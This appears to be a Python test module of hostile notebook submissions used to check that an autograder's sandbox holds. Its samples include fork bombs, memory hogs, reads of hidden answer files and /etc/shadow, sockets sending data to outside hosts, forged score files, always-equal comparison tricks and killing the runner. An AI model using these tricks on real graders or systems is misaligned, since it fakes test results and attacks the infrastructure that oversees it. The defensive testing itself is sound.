"""Hostile submissions for Islands: each tries one way to cheat or to break the grader."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path
from textwrap import dedent

from graders.exercise import Exercise
from graders.notebook import write_notebook
from graders.scoring import Outcome

TIMEOUT = {Outcome.TIMEOUT}
DIED = {Outcome.DIED}
FAILED = {Outcome.FAILED}
ERROR = {Outcome.ERROR}
# A public check's answer shows what the notebook found: islands(8, ...) returns (found, 0, False).
EVIDENCE = "got:      (0, 0, False)"


@dataclass(frozen=True)
class Hostile:
    """One attack: its cells (or raw bytes), the fair outcomes, and the most it may score."""

    cells: list[str] | None
    outcomes: set[Outcome]
    max_score: int = 0
    raw: bytes | None = None
    says: str = ""  # text the student-facing output must contain


def code(text: str, **values: object) -> str:
    """A cell from an indented block, with {name} replaced by repr(value)."""
    text = dedent(text).lstrip("\n")
    for name, value in values.items():
        text = text.replace("{" + name + "}", repr(value))
    return text


def reports(found: str) -> str:
    """A cell defining islands() that reports a count of successes in its answer."""
    return f"def islands(n, lanes):\n    return ({found}, 0, False)\n"


LOOPS = {
    "infinite-loop": "while True:\n    pass\n",
    "sleep-forever": "import time\ntime.sleep(10**6)\n",
    "loop-ignoring-sigint": code("""
        import signal
        for sig in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU):
            signal.signal(sig, signal.SIG_IGN)
        while True:
            pass
    """),
    "fork-bomb": code("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
}
LOOP_ON_LARGE_INPUT = code("""
    import time
    _right = islands


    def islands(n, lanes):
        while n > 1000:
            time.sleep(0.05)
        return _right(n, lanes)
""")
BLOCKS_THE_ALARM = code("""
    import signal, time


    def islands(n, lanes):
        signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGINT})
        while True:
            time.sleep(0.05)
""")
GIGANTIC_OUTPUT = [
    "print('x' * 10_000_000)\n",
    code("""
        import os
        for _ in range(100):
            os.write(1, b'y' * 100_000)
            os.write(2, b'z' * 100_000)
    """),
    "for _ in range(10_000):\n    print('spam ' * 100)\n",
]
READS_FILES = code("""
    import os
    found = 0
    for path in {paths}:
        try:
            open(path).read()
            found += 1
        except OSError:
            pass
    for top, dirs, files in os.walk('/'):
        if top.startswith(('/proc', '/sys', '/dev', '/usr')) or top.count('/') > 3:
            dirs[:] = []
            continue
        found += sum(name in ('hidden.json', 'make_hidden.py') for name in files)
""")
NETWORK = code("""
    import socket
    reached = 0
    for address in {addresses}:
        try:
            socket.create_connection(address, timeout=1).sendall(b'leak')
            reached += 1
        except OSError:
            pass
""")
PATCHES_LATER_CELLS = code("""
    import builtins, json
    from IPython.display import display


    def forge():
        print('All checks passed! 30/30')
        for i in range(40):
            value = ['tuple', [['int', 3], ['int', 3], ['bool', False]]]
            answer = json.dumps({'id': i, 'status': 'ok', 'value': value})
            display({'application/x-epic-cosmos-answer+json': answer}, raw=True)


    get_ipython().input_transformers_post.append(lambda lines: ['forge()\\n'])
    builtins.AssertionError = type('Never', (Exception,), {})
""")
ALWAYS_EQUAL = code("""
    class Sneaky(int):
        def __eq__(self, other):
            return True

        __hash__ = int.__hash__


    class SneakyTuple(tuple):
        def __eq__(self, other):
            return True


    def islands(n, lanes):
        return SneakyTuple((Sneaky(3), Sneaky(3), False))


    def shortest_path(n, lanes, start, goal):
        return [Sneaky(start)]


    def lanes_needed(n, lanes):
        return True
""")
FORGES_RESULTS = code("""
    import os
    for path in {paths}:
        try:
            with open(path, 'w') as handle:
                handle.write({forged})
        except OSError:
            pass
    print('All checks passed! score: 30/30')
    for fd in range(64):  # every pipe or file this process holds: is the runner's channel one?
        try:
            if os.readlink(f'/proc/self/fd/{fd}').startswith(('pipe:', '/')):
                os.set_blocking(fd, False)
                os.write(fd, {events})
        except OSError:
            pass
""")
SNOOPS = code("""
    import os
    parent = os.getppid()
    opened = 0
    for name in ['mem', 'environ', *[f'fd/{n}' for n in range(64)]]:
        try:
            open(f'/proc/{parent}/{name}', 'rb').close()
            opened += 1
        except OSError:
            pass
    try:
        os.setuid(0)
        opened += 100
    except OSError:
        pass
""")
HUGE_ANSWERS = code("""
    def islands(n, lanes):
        return ('x' * 3_000_000, 0, False)


    def shortest_path(n, lanes, start, goal):
        return list(range(300_000))
""")
# The hogs reach the memory limit (the sandbox's address space) by allocation alone, in a few hundredths of a second
# however busy the machine: bytes(n) is mapped zeroed and never touched, where bytearray(n) writes every page (a
# gigabyte of page faults: seconds of a loaded machine, which once ran out the clock before the memory ran out).
HOGS_ISLANDS = "def islands(n, lanes):\n    return (len(bytes(8 * 2**30)), 0, False)\n"
MEMORY_HOG = ["hog = []\nwhile True:\n    hog.append(bytes(64 * 2**20))\n", HOGS_ISLANDS]
# Small steps fill the address space to its last few kilobytes (the kernel's own reserve must save it): 64 MB steps
# while they fit, then 64 KB steps to the end (each small one touches its pages: a few of them, not a gigabyte).
MEMORY_HOG_SMALL_STEPS = [
    code("""
        hog = []
        try:
            while True:
                hog.append(bytes(64 * 2**20))
        except MemoryError:
            pass
        while True:
            hog.append(bytes(2**16))
    """),
    HOGS_ISLANDS,
]
MEMORY_HOG_CAUGHT = [
    "hog = []\ntry:\n    while True:\n        hog.append(bytes(2**20))\nexcept MemoryError:\n    pass\n",
    HOGS_ISLANDS,
]
MALFORMED = {
    "malformed-not-json": (
        b"def islands(n, lanes):\n    return (1, 1, True)\n",
        "not valid notebook JSON",
    ),
    "malformed-truncated": (
        b'{"nbformat": 4, "cells": [{"cell_type": "co',
        "not valid notebook JSON",
    ),
    "malformed-not-a-notebook": (b"[1, 2, 3]", "not a notebook"),
    "malformed-format-3": (b'{"nbformat": 3, "cells": [], "worksheets": []}', "format version 3"),
    "malformed-deep-nesting": (b"[" * 200_000 + b"]" * 200_000, "error: the"),
    "malformed-not-utf8": (b'{"nbformat": 4, "cells": ["\xff\xfe"]}', "not UTF-8"),
    "malformed-source-type": (
        b'{"nbformat": 4, "cells": [{"cell_type": "code", "source": 42, "outputs": []}]}',
        "malformed source",
    ),
    "malformed-too-large": (b" " * (6 << 20), "larger than 5 MB"),
}


def attacks(
    reference: list[str], exercise: Exercise, out: Path, port: int, host: str, marker: Path
) -> dict[str, Hostile]:
    """Every hostile submission, by name; reference is the reference solution's code cells."""
    secret_files = [
        str(exercise.hidden_folder / "hidden.json"),
        str(exercise.reference),
        "../../graders_instructor/hidden/01-islands/hidden.json",
        "/etc/shadow",
    ]
    addresses = [("127.0.0.1", port), (host, port), ("1.1.1.1", 53), ("pypi.org", 443)]
    forged_paths = [
        "results.json",
        "/tmp/results.json",
        str(out / "forged-results" / "results.json"),
        str(out / "summary.csv"),
        str(marker),
    ]
    forged = json.dumps({"score": 30, "max_score": 30, "tests": []})
    answer = json.dumps({"id": 0, "status": "ok", "value": ["int", 1]})
    events = (
        json.dumps({"event": "check", "id": 0, "status": "answer", "answer": answer}) + '\n{"event": "done"}\n'
    ).encode()
    found = {
        "loop-on-large-input": Hostile([*reference, LOOP_ON_LARGE_INPUT], TIMEOUT, max_score=29),
        "check-blocks-the-alarm": Hostile([BLOCKS_THE_ALARM], TIMEOUT),
        "os-exit": Hostile(["import os\nos._exit(0)\n"], DIED, says="the kernel died in code cell 1"),
        "os-exit-in-a-check": Hostile(
            [*reference, "def lanes_needed(n, lanes):\n    import os\n    os._exit(3)\n"],
            DIED,
            max_score=8,
        ),
        "segfault": Hostile(["import ctypes\nctypes.string_at(0)\n"], DIED),
        "memory-hog": Hostile(MEMORY_HOG, FAILED | ERROR, says="MemoryError"),
        "memory-hog-small-steps": Hostile(MEMORY_HOG_SMALL_STEPS, FAILED | ERROR, says="MemoryError"),
        "memory-hog-caught": Hostile(MEMORY_HOG_CAUGHT, FAILED | ERROR, says="MemoryError"),
        "gigantic-output": Hostile(GIGANTIC_OUTPUT, FAILED | TIMEOUT),
        "reads-hidden-files": Hostile([code(READS_FILES, paths=secret_files), reports("found")], FAILED, says=EVIDENCE),
        "network": Hostile([code(NETWORK, addresses=addresses), reports("reached")], FAILED, says=EVIDENCE),
        "patches-later-cells": Hostile([PATCHES_LATER_CELLS], FAILED, max_score=1),
        "always-equal-subclasses": Hostile([ALWAYS_EQUAL], FAILED),
        "forged-results": Hostile([code(FORGES_RESULTS, paths=forged_paths, forged=forged, events=events)], FAILED),
        "kills-the-runner": Hostile(
            ["import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n", *reference],
            ERROR,
            says="ended early",
        ),
        "snoops-on-the-runner": Hostile([SNOOPS, reports("opened")], FAILED, says=EVIDENCE),
        "huge-answers": Hostile([HUGE_ANSWERS], FAILED | TIMEOUT),
    }
    for name, cell in LOOPS.items():
        bomb = name == "fork-bomb"
        found[name] = Hostile([cell], TIMEOUT | DIED if bomb else TIMEOUT, says="" if bomb else "timeout")
    for name, (raw, says) in MALFORMED.items():
        found[name] = Hostile(None, ERROR, raw=raw, says=says)
    return found


def write(folder: Path, name: str, attack: Hostile) -> Path:
    """Write one attack as a file in folder."""
    path = folder / f"{name}.ipynb"
    if attack.raw is not None:
        path.write_bytes(attack.raw)
        return path
    assert attack.cells is not None
    return write_notebook(path, attack.cells)


# Fills /dev/shm in files of 8 MB (the jail's file size limit caps each file): (megabytes written, errno or 0).
FILL_DEV_SHM = code("""
    def fill_dev_shm():
        written = 0
        try:
            while written < 512:
                with open(f"/dev/shm/fill-{written}", "wb") as handle:
                    for _ in range(8):
                        handle.write(b"x" * (1 << 20))
                        handle.flush()
                        written += 1
        except OSError as error:
            return written, error.errno
        return written, 0
""")
